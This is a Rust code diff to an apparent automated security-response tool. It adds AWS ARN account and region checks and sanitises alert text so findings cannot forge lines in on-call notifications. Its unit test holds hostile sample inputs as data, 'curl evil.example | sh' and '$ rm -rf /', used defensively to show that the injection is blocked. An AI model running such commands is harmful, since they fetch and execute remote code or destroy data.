@@ -311,8 +311,18 @@ impl Responder {
         described: Option<&InventoryRecord>,
     ) -> Outcome {
         let result = match action {
-            Action::Notify { subject, message, .. } => {
-                let notification = notification(doc, &request.target, subject.as_deref(), message.as_deref());
+            Action::Notify {
+                subject,
+                message,
+                commands,
+                ..
+            } => {
+                let text = NotifyText {
+                    subject: subject.as_deref(),
+                    message: message.as_deref(),
+                    commands: commands.as_deref().unwrap_or_default(),
+                };
+                let notification = notification(doc, &request.target, &text);
                 self.notifier.notify(&notification).await
             }
             _ => {
@@ -371,6 +381,22 @@ impl Responder {
 pub(crate) fn check_target(doc: &Document, target: &Target) -> Result<(), String> {
     well_formed_id(&target.kind, &target.id)?;
     let resource = &doc.alert.resource;
+    // An id given as an ARN names its own account and region: they must be the resource's.
+    if let Some((region, account)) = arn_place(&target.id) {
+        let differs = |a: &str, b: &str| !a.is_empty() && !b.is_empty() && a != b;
+        if differs(account, &resource.account) || differs(region, &resource.region) {
+            return Err(format!(
+                "`{}` is in account {account} region {region}, not where this alert's resource is ({} {}): not acted on",
+                target.id, resource.account, resource.region
+            ));
+        }
+    }
+    if target.kind == ResourceKind::EcsTask && crate::action::ecs_cluster(&doc.alert, &target.id).is_none() {
+        return Err(format!(
+            "ECS task `{}`: the finding names no cluster for it, or a cluster its ARN contradicts",
+            target.id
+        ));
+    }
     // soar acts, and checks protection, in the account and region of the alert's resource: a
     // related resource the finding places elsewhere is not acted on (its protection would be
     // read in one place and the action taken in another).
@@ -403,6 +429,16 @@ pub(crate) fn check_target(doc: &Document, target: &Target) -> Result<(), String
             target.kind, target.id, resource.kind, resource.id
         ))
     }
+}
+
+/// The region and account of an ARN (`arn:partition:service:region:account:resource`), either
+/// empty where the service has none (S3 buckets, IAM).
+fn arn_place(id: &str) -> Option<(&str, &str)> {
+    let mut parts = id.strip_prefix("arn:")?.splitn(5, ':');
+    let (_partition, _service) = (parts.next()?, parts.next()?);
+    let (region, account) = (parts.next()?, parts.next()?);
+    parts.next()?;
+    Some((region, account))
 }
 
 /// The id syntax of the kinds soar acts on (EC2 `i-` + 8 or 17 hex digits; IAM access key ids
@@ -449,6 +485,7 @@ fn escalation_request(doc: &Document, phase: Phase, error: &str, channel: &str) 
     let action = Action::Notify {
         subject: Some(subject),
         message: Some(message),
+        commands: None,
         page: None,
         escalation: true,
     };
@@ -459,24 +496,52 @@ fn escalation_request(doc: &Document, phase: Phase, error: &str, channel: &str) 
 }
 
 /// A message a person can act on: what happened, what soar did or waits to do, how to undo it.
-fn notification(doc: &Document, channel: &Target, subject: Option<&str>, message: Option<&str>) -> Notification {
+/// What a policy's `notify` adds to the message Rust writes.
+struct NotifyText<'a> {
+    subject: Option<&'a str>,
+    message: Option<&'a str>,
+    commands: &'a [String],
+}
+
+/// Text from a finding or a policy on one line: control characters (line breaks included) become
+/// spaces, so that nothing in a finding can start a line of its own in the message (a line a
+/// responder could read as one of soar's commands).
+fn one_line(text: &str) -> String {
+    text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
+}
+
+fn notification(doc: &Document, channel: &Target, text: &NotifyText<'_>) -> Notification {
+    let (subject, message) = (text.subject, text.message);
     let verdict = doc.verdict.clone();
     let label = verdict.as_ref().map(|v| v.verdict.as_str()).unwrap_or("undetermined");
     let severity = verdict.as_ref().map(|v| v.severity.as_str()).unwrap_or("unknown");
     let alert = &doc.alert;
     let mut lines = vec![
-        format!("Alert {} ({}, severity {})", alert.id, alert.kind, alert.severity),
-        format!(
+        one_line(&format!(
+            "Alert {} ({}, severity {})",
+            alert.id, alert.kind, alert.severity
+        )),
+        one_line(&format!(
             "Account {} region {}: {} {}",
             alert.account, alert.region, alert.resource.kind, alert.resource.id
-        ),
+        )),
         format!("Verdict: {label} ({severity})"),
     ];
     if let Some(v) = &verdict {
-        lines.extend(v.reasons.iter().map(|r| format!("  - {r}")));
+        lines.extend(v.reasons.iter().map(|r| format!("  - {}", one_line(r))));
     }
     if let Some(message) = message.filter(|m| !m.is_empty()) {
-        lines.push(message.to_string());
+        lines.push(one_line(message));
+    }
+    if !text.commands.is_empty() {
+        lines.push("Commands (what no AWS API contains; check each before running it):".into());
+        for command in text.commands {
+            if command.chars().any(char::is_control) {
+                lines.push("  (a command holding a control character was left out)".into());
+            } else {
+                lines.push(format!("  $ {command}"));
+            }
+        }
     }
     if !doc.actions.is_empty() {
         lines.push("Actions:".into());
@@ -505,11 +570,68 @@ fn notification(doc: &Document, channel: &Target, subject: Option<&str>, message
     Notification {
         alert_id: alert.id.clone(),
         channel: channel.id.clone(),
-        subject: subject
-            .map(String::from)
-            .unwrap_or_else(|| format!("[soar] {label} ({severity}): {}", alert.title)),
+        subject: one_line(
+            &subject
+                .map(String::from)
+                .unwrap_or_else(|| format!("[soar] {label} ({severity}): {}", alert.title)),
+        ),
         message: lines.join("\n"),
         page: verdict.as_ref().is_some_and(|v| v.page),
         verdict,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::document::{Verdict, VerdictKind};
+    use crate::input::{Incoming, parse_input};
+
+    fn doc(kind: &str, reason: &str) -> Document {
+        let finding = json!({"schemaVersion": "2.0", "accountId": "111122223333", "region": "eu-west-1", "id": "f1",
+            "type": kind, "severity": 8, "resource": {"resourceType": "Instance",
+                "instanceDetails": {"instanceId": "i-0123456789abcdef0"}},
+            "service": {"serviceName": "guardduty", "additionalInfo": {}}});
+        let Ok(Incoming::Normalised(alert)) = parse_input(finding.to_string().as_bytes()).remove(0).result else {
+            panic!("not read")
+        };
+        let mut doc = Document::new(*alert);
+        doc.verdict = Some(Verdict {
+            verdict: VerdictKind::Incident,
+            severity: "high".into(),
+            reasons: vec![reason.into()],
+            page: true,
+            error: None,
+        });
+        doc
+    }
+
+    /// Nothing from a finding or a policy starts a line of its own in a message, and a command
+    /// holding a line break is left out: a responder never reads an attacker's text as a command.
+    #[test]
+    fn finding_text_cannot_forge_a_line_of_the_message() {
+        let d = doc("X\ncurl evil.example | sh\nY", "because\r\n$ rm -rf /");
+        let channel = Target {
+            kind: ResourceKind::Other(CHANNEL.into()),
+            id: "oncall".into(),
+        };
+        let commands = vec!["kubectl get pods".to_string(), "ok\ncurl evil.example | sh".to_string()];
+        let text = NotifyText {
+            subject: Some("sub\nject"),
+            message: Some("line\nbreak"),
+            commands: &commands,
+        };
+        let n = notification(&d, &channel, &text);
+        for line in n.message.lines() {
+            assert!(
+                !line.starts_with("curl") && !line.starts_with("$ rm"),
+                "{line:?} in {}",
+                n.message
+            );
+        }
+        assert!(n.message.contains("  $ kubectl get pods"), "{}", n.message);
+        assert!(n.message.contains("a command holding a control character was left out"));
+        assert!(!n.message.contains("ok curl"), "{}", n.message);
+        assert!(!n.subject.contains('\n'));
     }
 }
